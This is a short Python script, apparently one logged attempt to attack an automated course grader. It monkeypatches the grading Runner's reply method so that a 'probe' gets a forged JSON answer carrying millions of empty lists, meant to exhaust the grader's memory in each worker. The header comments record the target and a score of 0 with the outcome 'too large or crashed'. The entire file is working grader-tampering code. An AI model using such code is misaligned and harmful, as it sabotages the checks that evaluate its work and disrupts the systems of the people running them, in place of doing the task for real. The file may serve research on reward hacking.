# Goes for the JSON reader: 8 MB of empty lists, which take 20 times that in memory.
# Gains: memory of the grader, once for each worker.
# score: 0
# outcome: too large or crashed
# ruff: noqa
import json
import struct
from coursekit.checks import wire
from coursekit.grading.inside.runner import Runner

real = Runner.reply


def wide(self, frame):
    message, _ = wire.unpack(frame)
    if message["op"] != "probe":
        return real(self, frame)
    text = json.dumps({"op": "probe", "nonce": message["nonce"], "observed": {"values": {"grad_w1": [[]] * 2_000_000}}}).encode().replace(b", ", b",")
    self.connection.sendall(struct.pack("<II", len(text), 0) + text)


Runner.reply = wide
